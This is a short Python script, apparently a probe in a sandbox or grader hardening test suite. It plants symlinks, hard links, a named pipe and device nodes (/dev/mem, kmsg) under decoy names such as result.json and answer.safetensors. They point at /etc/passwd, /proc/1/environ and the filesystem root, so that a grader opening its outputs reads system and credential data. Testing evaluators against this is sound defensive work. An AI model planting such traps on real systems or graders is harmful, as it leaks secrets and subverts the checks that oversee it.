"""Links, pipes and devices in the scratch folder, under names that a grader might open.

Aim: read
"""

import os

NAMES = ("answer", "answer.safetensors", "result.json", "mnist.ipynb", "kernel.json", "out", "core")
TARGETS = (*hostile.files, "/etc/passwd", "/proc/1/environ", "/proc/self/root", "/dev/zero", "/")
for folder in {os.getcwd(), os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~"), "/dev/shm"}:
    for number, target in enumerate(TARGETS):
        name = NAMES[number % len(NAMES)]
        hostile.tried(os.symlink, target, os.path.join(folder, f"{number}-{name}"))
        hostile.tried(os.symlink, target, os.path.join(folder, name))
        hostile.tried(os.link, target, os.path.join(folder, f"hard-{number}-{name}"))
        hostile.loot(os.path.join(folder, f"{number}-{name}"))
        hostile.loot(os.path.join(folder, f"hard-{number}-{name}"))
    hostile.tried(os.mkfifo, os.path.join(folder, "pipe.json"))
    for name, numbers in {"zero": (1, 5), "mem": (1, 1), "kmsg": (1, 11)}.items():
        path = os.path.join(folder, name)
        hostile.tried(os.mknod, path, 0o20666, os.makedev(*numbers))
        if hostile.read(path, 16):
            hostile.claim(f"the device {name} was made and read")
